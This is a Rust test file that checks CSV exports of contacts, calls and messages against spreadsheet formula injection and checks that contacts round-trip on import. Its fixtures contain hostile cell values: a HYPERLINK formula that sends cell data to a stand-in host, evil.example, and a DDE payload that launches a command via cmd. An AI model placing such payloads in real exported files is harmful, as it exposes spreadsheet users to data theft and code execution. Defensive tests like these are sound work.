//! CSV injection: no exported cell may start a spreadsheet formula, and what `export contacts`
//! writes, `import contacts` reads back unchanged.

use chrono::{TimeZone, Utc};

use crate::phone::Country;
use crate::store::{
    CallParty, CallRecord, ContactNumber, ContactQuery, ContactRecord, ContactSource, Direction,
    MessageParty, MessageRecord, Store,
};

use super::{export_calls, export_contacts, export_messages, import_contacts};

/// What spreadsheets read as the start of a formula (OWASP's CSV-injection list).
const TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

fn us() -> Country {
    Country::from_iso_code("US").expect("US")
}

fn store(dir: &tempfile::TempDir, name: &str) -> Store {
    Store::open(&dir.path().join(name), us()).expect("opens")
}

/// Every cell of every row after the header.
fn cells(csv: &[u8]) -> Vec<Vec<String>> {
    csv::Reader::from_reader(csv)
        .records()
        .map(|row| row.expect("a CSV row").iter().map(str::to_owned).collect())
        .collect()
}

/// `+` and digits: a number in E.164, which a spreadsheet reads as a number and cannot run.
fn bare_number(cell: &str) -> bool {
    cell.strip_prefix('+')
        .is_some_and(|d| !d.is_empty() && d.bytes().all(|b| b.is_ascii_digit()))
}

fn assert_no_formula(csv: &[u8], what: &str) {
    for row in cells(csv) {
        for cell in row {
            assert!(
                !cell.starts_with(TRIGGERS) || bare_number(&cell),
                "{what}: the cell {cell:?} would run as a formula in a spreadsheet"
            );
        }
    }
}

fn hostile_contact() -> ContactRecord {
    ContactRecord {
        first_name: "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Ada\")".into(),
        last_name: "+Lovelace".into(),
        email: "@ada@example.com".into(),
        company: "-2+3".into(),
        tags: "'=quoted".into(),
        notes: "'plain apostrophe".into(),
        numbers: vec![ContactNumber {
            number: "+14155550120".into(),
            label: "phone".into(),
        }],
        ..ContactRecord::default()
    }
}

#[test]
fn exported_text_never_starts_a_formula() {
    let dir = tempfile::TempDir::new().expect("temp dir");
    let mut store = store(&dir, "c.sqlite3");
    let at = Utc
        .with_ymd_and_hms(2026, 3, 1, 12, 0, 0)
        .single()
        .expect("a date");
    let mut batch = store.batch().expect("batch");
    batch
        .put_contact(ContactSource::Local, &hostile_contact(), 0)
        .expect("contact");
    let caller = CallParty {
        number: Some("+14155550121".into()),
        extension: None,
        name: Some("=cmd|' /C calc'!A0".into()),
    };
    let own = CallParty {
        number: Some("+16505550101".into()),
        extension: None,
        name: None,
    };
    batch
        .put_call(&CallRecord {
            id: "c1".into(),
            session_id: "s1".into(),
            start: at,
            duration_secs: 3,
            direction: Direction::Inbound,
            kind: "Voice".into(),
            action: "Phone Call".into(),
            result: "@Missed".into(),
            from: caller,
            to: own,
            legs: Vec::new(),
            raw: None,
        })
        .expect("call");
    let them = MessageParty {
        number: "+14155550120".into(),
        name: Some("-Mallory".into()),
    };
    let us_party = MessageParty {
        number: "+16505550101".into(),
        name: None,
    };
    batch
        .put_message(&MessageRecord {
            id: 1,
            conversation_id: 7,
            direction: Direction::Inbound,
            created: at,
            modified: at,
            from: them,
            to: vec![us_party],
            text: "=HYPERLINK(\"http://evil.example\",\"click\")".into(),
            read: false,
            status: "Received".into(),
            delivery_error: None,
            deleted: false,
            raw: None,
        })
        .expect("message");
    batch.commit().expect("commit");

    let mut calls = Vec::new();
    export_calls(&store, &mut calls).expect("calls export");
    assert_no_formula(&calls, "calls");
    let mut messages = Vec::new();
    export_messages(&store, &mut messages).expect("messages export");
    assert_no_formula(&messages, "messages");
    let mut contacts = Vec::new();
    export_contacts(&store, &mut contacts).expect("contacts export");
    assert_no_formula(&contacts, "contacts");

    let rows = cells(&messages);
    assert_eq!(
        rows[0][6], "'=HYPERLINK(\"http://evil.example\",\"click\")",
        "the text is kept whole behind one apostrophe"
    );
    let rows = cells(&contacts);
    assert_eq!(
        rows[0][3], "+14155550120",
        "a bare E.164 number is data a CRM imports as the phone, and cannot run"
    );
    assert_eq!(
        rows[0][6], "'plain apostrophe",
        "text that starts with an apostrophe but no formula is left as it is"
    );
}

#[test]
fn exported_contacts_import_back_unchanged() {
    let dir = tempfile::TempDir::new().expect("temp dir");
    let mut source = store(&dir, "a.sqlite3");
    let mut batch = source.batch().expect("batch");
    batch
        .put_contact(ContactSource::Local, &hostile_contact(), 0)
        .expect("contact");
    batch.commit().expect("commit");
    let mut csv = Vec::new();
    export_contacts(&source, &mut csv).expect("export");

    let mut target = store(&dir, "b.sqlite3");
    let report = import_contacts(&mut target, csv.as_slice(), us()).expect("import");
    assert_eq!(report.imported, 1, "the row imports: {:?}", report.skipped);
    let page = target.contacts(&ContactQuery::default()).expect("list");
    let back = &page.contacts[0];
    let want = hostile_contact();
    assert_eq!(
        (
            back.first_name.as_str(),
            back.last_name.as_str(),
            back.email.as_str(),
            back.company.as_str(),
            back.tags.as_str(),
            back.notes.as_str(),
        ),
        (
            want.first_name.as_str(),
            want.last_name.as_str(),
            want.email.as_str(),
            want.company.as_str(),
            want.tags.as_str(),
            want.notes.as_str(),
        ),
        "every text comes back as it was exported, apostrophes removed"
    );
    assert_eq!(back.numbers[0].key, "+14155550120", "the number reads back");
}
